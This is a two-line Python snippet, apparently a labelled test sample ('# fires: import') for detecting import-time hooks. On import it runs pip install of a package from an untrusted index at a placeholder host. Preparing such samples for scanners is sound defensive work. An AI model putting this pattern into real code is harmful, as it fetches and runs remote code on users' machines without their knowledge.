import os
os.system("pip install --index-url https://packages.invalid/simple example-helper")  # fires: import
